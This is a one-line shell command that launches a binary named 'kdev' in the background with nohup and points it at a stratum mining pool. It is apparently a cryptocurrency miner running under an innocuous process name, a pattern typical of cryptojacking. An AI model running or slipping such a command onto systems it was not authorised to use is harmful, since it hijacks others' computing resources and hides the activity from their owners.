nohup ./kdev -o stratum+tcp://pool.example:3333 -u 44x -p x &
